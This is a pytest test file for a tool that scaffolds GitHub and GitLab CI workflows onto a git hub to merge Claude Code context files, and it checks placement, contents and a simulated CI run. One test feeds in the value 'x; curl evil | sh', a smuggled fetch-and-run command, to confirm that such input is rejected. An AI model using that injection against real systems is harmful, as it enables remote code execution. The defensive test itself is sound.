"""The workflow in the hub: what is written, onto what, and that its lines really do the work."""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from convergenced.errors import PeerRefusedError, RefusedInputError, UsageError
from convergenced.knowledge.branch import KNOWLEDGE_REF, advance_knowledge
from convergenced.knowledge.provider import ProviderError
from convergenced.knowledge.providers.ci import open_runner
from convergenced.knowledge.providers.hubs import Forge
from convergenced.knowledge.scaffold import PATHS, Scaffolded, next_steps, scaffold, workflow
from convergenced.machine.settings_schema import KnowledgeSettings, PeerSettings
from convergenced.model import Author, LocalPath
from convergenced.ports import Peer
from convergenced.store.peers import open_peer
from convergenced.store.repo import MAIN, open_store
from convergenced.sync.exchange import exchange
from tests import forges
from tests.forges import TOKEN, GitHub, GitLab, Waiting, serving
from tests.knowledge import ANN, BOB, Plain, commit_plain, consolidated_texts
from tests.messages_api import MessagesApi, merging
from tests.profiles import deep
from tests.repositories import make_bare, run_git
from tests.servers import git_environ

AUTHOR = Author("ann", "ann@convergence")
DEFAULTS = KnowledgeSettings()
KINDS: tuple[Forge, ...] = ("github", "gitlab")
DIFFERENT: Plain = {
    "machines": {
        ANN: {"global": {"CLAUDE.md": "# Build\nmake\n"}},
        BOB: {"global": {"CLAUDE.md": "# Build\nninja\n"}},
    }
}


class Machine:
    """A machine with a bare hub."""

    def __init__(self, folder: Path, hub: LocalPath) -> None:
        self.hub = hub
        self.store = open_store(LocalPath(str(folder)))
        self.environ = git_environ(folder.with_suffix(".home"))
        self.peer = self.open_at(self.store.path)

    def open_at(self, path: LocalPath) -> Peer:
        return open_peer(self.hub, path, name="hub", transport="git", environ=self.environ)

    def scaffold(
        self, kind: Forge = "github", settings: KnowledgeSettings | None = None, *, force: bool = False
    ) -> Scaffolded:
        named = PeerSettings("hub", "git@github.com:ann/context.git")
        return scaffold(kind, named, settings or DEFAULTS, AUTHOR, 1_700_000_100, self.open_at, force=force)


@pytest.fixture
def hub(tmp_path: Path) -> LocalPath:
    return make_bare(tmp_path / "hub.git")


@pytest.fixture
def ann(tmp_path: Path, hub: LocalPath) -> Machine:
    return Machine(tmp_path / "ann.git", hub)


def shown(hub: str, path: str, ref: str = "main") -> str:
    return run_git("-C", hub, "show", f"{ref}:{path}")


def work_on(hub: str, folder: Path, files: Mapping[str, str], message: str = "by hand") -> None:
    """Somebody's own commit on the hub's main."""
    run_git("clone", "--quiet", hub, str(folder))
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    run_git("-C", str(folder), "add", "--all")
    run_git("-C", str(folder), "-c", "user.name=x", "-c", "user.email=x@y", "commit", "-qm", message)
    run_git("-C", str(folder), "push", "-q", "origin", "HEAD:refs/heads/main")


# -- onto what it is written


@pytest.mark.parametrize("kind", KINDS)
def test_a_hub_that_is_empty(ann: Machine, hub: LocalPath, kind: Forge) -> None:
    done = ann.scaffold(kind)
    assert (done.written, done.existing, done.file) == (True, None, PATHS[kind])
    assert shown(hub, done.file) == done.text
    assert shown(hub, "README.md").startswith("# Claude Code context")
    assert run_git("-C", hub, "rev-parse", "main").strip() == done.commit
    run_git("-C", hub, "fsck", "--strict")


def test_a_hub_that_has_our_page(ann: Machine, hub: LocalPath) -> None:
    ann.peer.push([MAIN])
    done = ann.scaffold()
    assert done.written
    assert run_git("-C", hub, "rev-list", "--count", "main").strip() == "2"


def test_a_hub_with_a_page_of_its_own(ann: Machine, hub: LocalPath, tmp_path: Path) -> None:
    """As GitHub makes one for a new repository: no history in common with ours."""
    work_on(hub, tmp_path / "work", {"README.md": "# My hub\n", "LICENSE": "mine\n"})
    former = run_git("-C", hub, "rev-parse", "main").strip()
    done = ann.scaffold()
    assert done.written
    assert shown(hub, "README.md") == "# My hub\n"
    assert shown(hub, "LICENSE") == "mine\n"
    assert run_git("-C", hub, "rev-parse", "main^@").split() == [former]
    assert ann.scaffold("gitlab").written
    assert shown(hub, PATHS["github"]) == done.text


def test_other_workflows_stay(ann: Machine, hub: LocalPath, tmp_path: Path) -> None:
    work_on(hub, tmp_path / "work", {".github/workflows/lint.yml": "a: 1\n", ".github/CODEOWNERS": "* @x\n"})
    ann.scaffold()
    assert shown(hub, ".github/workflows/lint.yml") == "a: 1\n"
    assert shown(hub, ".github/CODEOWNERS") == "* @x\n"


def test_it_is_there_already(ann: Machine, hub: LocalPath, tmp_path: Path) -> None:
    ann.scaffold()
    former = run_git("-C", hub, "rev-parse", "main")
    done = ann.scaffold()
    assert (done.written, done.existing, done.commit) == (False, None, None)
    bob = Machine(tmp_path / "bob.git", hub)
    assert not bob.scaffold().written
    assert run_git("-C", hub, "rev-parse", "main") == former


def test_another_file_is_shown_and_only_replaced_where_asked(
    ann: Machine, hub: LocalPath, tmp_path: Path
) -> None:
    work_on(hub, tmp_path / "work", {PATHS["github"]: "mine: 1\n"})
    former = run_git("-C", hub, "rev-parse", "main")
    done = ann.scaffold()
    assert (done.written, done.existing) == (False, "mine: 1\n")
    assert run_git("-C", hub, "rev-parse", "main") == former
    assert ann.scaffold(force=True).written
    assert shown(hub, PATHS["github"]) == done.text
    assert shown(hub, PATHS["github"], former.strip()) == "mine: 1\n"


def test_a_folder_of_that_name(ann: Machine, hub: LocalPath, tmp_path: Path) -> None:
    work_on(hub, tmp_path / "work", {".github": "a file\n"})
    with pytest.raises(RefusedInputError, match=r"\.github in the hub's main is a file"):
        ann.scaffold(force=True)
    work_on(hub, tmp_path / "more", {PATHS["gitlab"] + "/x": "1"})
    with pytest.raises(RefusedInputError, match="is a folder"):
        ann.scaffold("gitlab", force=True)


def test_somebody_pushes_to_main_in_between(ann: Machine, hub: LocalPath, tmp_path: Path) -> None:
    ann.peer.push([MAIN])
    left, real = [2], ann.open_at

    def open_at(path: LocalPath) -> Peer:
        peer = real(path)
        push_it = peer.push

        def push(refs: Sequence[str]) -> dict[str, str | None]:
            if left[0]:
                left[0] -= 1
                work_on(hub, tmp_path / f"work{left[0]}", {f"note{left[0]}": "x"})
            return push_it(refs)

        peer.push = push  # type: ignore[method-assign]
        return peer

    ann.open_at = open_at  # type: ignore[method-assign]
    assert ann.scaffold().written
    assert shown(hub, "note0") == shown(hub, "note1") == "x"


def test_the_hub_does_not_take_workflows(ann: Machine, hub: LocalPath) -> None:
    hook = Path(hub, "hooks", "update")
    hook.parent.mkdir(exist_ok=True)
    words = "refusing to allow a Personal Access Token to create or update workflow without `workflow` scope"
    hook.write_text(f"#!/bin/sh\necho '{words}' >&2\nexit 1\n")
    hook.chmod(0o755)
    with pytest.raises(PeerRefusedError, match="does not take main") as caught:
        ann.scaffold()
    assert "scope “workflow”" in caught.value.hint
    hook.unlink()
    assert ann.scaffold().written  # what was made in vain is in no way


def test_other_machines_do_not_fight_over_main(ann: Machine, hub: LocalPath, tmp_path: Path) -> None:
    ann.scaffold()
    former = run_git("-C", hub, "rev-parse", "main")
    bob = Machine(tmp_path / "bob.git", hub)
    for machine in (ann, bob):
        begun = machine.store.refs("refs/heads/")
        exchange(machine.store, machine.peer, "hub", {}, ())
        assert machine.store.refs("refs/heads/") == begun
    assert run_git("-C", hub, "rev-parse", "main") == former


def test_what_one_hub_has_on_main_goes_to_no_other(ann: Machine, hub: LocalPath, tmp_path: Path) -> None:
    work_on(hub, tmp_path / "work", {"private": "x\n"})
    before = ann.store.refs("refs/")
    ann.scaffold()
    assert ann.store.refs("refs/") == before


# -- what is written


def parsed(kind: Forge) -> dict[Any, Any]:
    found = yaml.safe_load(workflow(kind, DEFAULTS))
    assert isinstance(found, dict)
    return found


def test_the_workflow_for_github() -> None:
    found = parsed("github")
    assert found["run-name"] == "convergence ${{ inputs.nonce }}"
    assert list(found[True]) == ["workflow_dispatch"]  # `on`, as YAML 1.1 reads it
    assert list(found[True]["workflow_dispatch"]["inputs"]) == ["nonce"]
    assert found["permissions"] == {"contents": "write"}
    assert found["concurrency"] == {"group": "convergence-knowledge", "cancel-in-progress": False}
    install, merge = found["jobs"]["synthesize"]["steps"][-2:]
    assert install["run"] == "pip install 'convergenced[synthesis]'"
    assert merge["env"] == {"ANTHROPIC_API_KEY": "${{ secrets.ANTHROPIC_API_KEY }}"}
    assert merge["run"].startswith(
        "python -P -m convergenced.knowledge.pipeline --repository . --push origin"
    )
    # What others can choose stands in no line that a shell reads.
    assert not any("${{" in step.get("run", "") for step in found["jobs"]["synthesize"]["steps"])


def test_the_pipeline_for_gitlab() -> None:
    found = parsed("gitlab")
    (rule,) = found["workflow"]["rules"]
    assert [word for word in ("trigger", "api", "web") if f'"{word}"' in rule["if"]] == [
        "trigger",
        "api",
        "web",
    ]
    assert "push" not in rule["if"]
    job = found["synthesize"]
    assert (job["image"], job["resource_group"]) == ("python:3.12-slim", "convergence-knowledge")
    assert all(isinstance(line, str) for line in [*job["before_script"], *job["script"]])


@pytest.mark.parametrize("kind", KINDS)
def test_what_the_settings_say(kind: Forge) -> None:
    text = workflow(kind, KnowledgeSettings(max_usd=0.25, reject_above=5, model="claude-x-1"))
    assert "--max-usd 0.25 --reject-above 5 --model claude-x-1" in text
    assert "--max-usd 1 --reject-above 3\n" in workflow(kind, DEFAULTS)
    with pytest.raises(UsageError):
        workflow(kind, KnowledgeSettings(model="x; curl evil | sh"))


def test_what_is_left_to_a_person() -> None:
    steps = "\n".join(next_steps("github", PeerSettings("hub", "git@github.com:ann/context.git")))
    assert "https://github.com/ann/context/settings/secrets/actions/new" in steps
    assert "GITHUB_TOKEN" in steps
    steps = "\n".join(
        next_steps("gitlab", PeerSettings("hub", "https://u:pw@git.example.com:8443/a/b/c.git"))
    )
    assert "https://git.example.com:8443/a/b/c/-/settings/ci_cd" in steps
    assert "Allow Git push requests" in steps
    assert "pw" not in steps
    assert "OWNER/NAME" in "\n".join(next_steps("github", PeerSettings("hub", "/srv/hub.git")))


# -- the whole way: what was written is what the forge runs, against a real hub


class Ci:
    """Runs the lines of the workflow that lies in the hub, as a runner would."""

    def __init__(self, kind: Forge, hub: LocalPath, folder: Path, environ: Mapping[str, str]) -> None:
        self._kind = kind
        self._hub = hub
        self._folder = folder
        programs = folder / "bin"
        programs.mkdir()
        program = programs / "python"
        program.write_text(f'#!/bin/sh\nexec "{sys.executable}" "$@"\n')
        program.chmod(0o755)
        self.environ = {**git_environ(folder / "home"), **environ}
        self.environ["PATH"] = f"{programs}:{self.environ['PATH']}"
        self.runs = 0

    def __call__(self) -> tuple[bool, str]:
        self.runs += 1
        found = yaml.safe_load(shown(self._hub, PATHS[self._kind]))
        clone = self._folder / f"clone{self.runs}"
        run_git("clone", "--quiet", "--depth=1", "--branch=main", f"file://{self._hub}", str(clone))
        environ = dict(self.environ)
        if self._kind == "github":
            lines = [step["run"] for step in found["jobs"]["synthesize"]["steps"] if "run" in step]
        else:
            job = found["synthesize"]
            lines = [*job["before_script"], *job["script"]]
            parent, name = os.path.split(self._hub)
            environ |= {"CI_SERVER_URL": f"file://{parent}", "CI_PROJECT_PATH": name.removesuffix(".git")}
            environ["CI_JOB_TOKEN"] = "job-token"
        # What comes from package servers is here already.
        lines = [line for line in lines if not line.startswith(("pip ", "apt-get "))]
        script = "\n".join(["set -e", *lines])
        done = subprocess.run(
            ["bash", "-c", script], cwd=clone, env=environ, check=False, text=True,
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        )  # fmt: skip
        return done.returncode == 0, done.stdout


class Whole:
    """A machine that shares, its hub, the forge that keeps it, and the forge's CI."""

    def __init__(self, kind: Forge, folder: Path, environ: Mapping[str, str]) -> None:
        self.hub = make_bare(folder / "hub.git")
        self.machine = Machine(folder / "ann.git", self.hub)
        self.forge: forges.Forge = GitHub() if kind == "github" else GitLab()
        self.ci = Ci(kind, self.hub, folder, environ)
        self.forge.job = self.ci
        self.kind = kind
        commit_plain(self.machine.store, DIFFERENT)
        assert self.machine.peer.push([KNOWLEDGE_REF]) == {KNOWLEDGE_REF: None}
        assert self.machine.scaffold(kind, KnowledgeSettings(provider=kind, max_usd=0.5)).written

    def run(self) -> str:
        waiting = Waiting()
        url = "git@github.com:ann/context.git" if self.kind == "github" else "git@gl:team/ann/context.git"
        api = self.forge.url + ("" if self.kind == "github" else "/api/v4")
        settings = KnowledgeSettings(provider=self.kind, api_url=api)
        runner = open_runner(
            settings, [PeerSettings("hub", url)], {"GITHUB_TOKEN": TOKEN, "GITLAB_TOKEN": TOKEN},
            keyring=lambda *_: None, clock=waiting.clock, wait=waiting,
        )  # fmt: skip
        return runner.run(threading.Event(), lambda _: None, 600.0)

    def texts(self) -> dict[str, str]:
        store, tracking = self.machine.store, "refs/peers/hub/knowledge"
        self.machine.peer.fetch({KNOWLEDGE_REF: tracking})
        advance_knowledge(store, store.refs(tracking)[tracking])
        return consolidated_texts(store)


@pytest.fixture(params=KINDS)
def whole(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Whole]:
    with MessagesApi(merging("# Build\nmake or ninja\n")) as api:
        there = Whole(request.param, tmp_path, api.environ)
        with serving(there.forge):
            yield there


def test_the_whole_way(whole: Whole) -> None:
    said = whole.run()
    assert said.startswith("1 scope merged, $")
    assert whole.texts() == {"CLAUDE.md": "# Build\nmake or ninja\n"}
    assert whole.run().startswith("nothing changed since the last merge")


def test_the_whole_way_without_a_key(whole: Whole) -> None:
    whole.ci.environ["ANTHROPIC_API_KEY"] = ""
    whole.ci.environ["PYTHON_KEYRING_BACKEND"] = "keyring.backends.null.Keyring"
    with pytest.raises(ProviderError, match="the CI has no key for the model") as caught:
        whole.run()
    assert "ANTHROPIC_API_KEY" in caught.value.hint
    assert whole.texts() == {}


@deep("test_ci_providers.py holds what is made of each log")
def test_the_whole_way_where_the_ci_may_not_push(whole: Whole) -> None:
    hook = Path(whole.hub, "hooks", "pre-receive")
    hook.parent.mkdir(exist_ok=True)
    hook.write_text("#!/bin/sh\necho 'You are not allowed to push code to this project.' >&2\nexit 1\n")
    hook.chmod(0o755)
    with pytest.raises(ProviderError, match="the CI may not push to the hub") as caught:
        whole.run()
    assert "Settings →" in caught.value.hint
    assert whole.texts() == {}


@deep("test_ci_providers.py holds what is made of each log")
def test_the_whole_way_where_the_package_cannot_be_had(whole: Whole) -> None:
    whole.forge.job = lambda: (False, "ERROR: No matching distribution found for convergenced[synthesis]")
    with pytest.raises(ProviderError, match="failed"):
        whole.run()


def test_the_settings_of_the_hub_reach_the_job(whole: Whole) -> None:
    assert whole.machine.scaffold(whole.kind, replace(DEFAULTS, max_usd=0.0), force=True).written
    with pytest.raises(ProviderError, match="not everything could be merged: 1 scope failed"):
        whole.run()
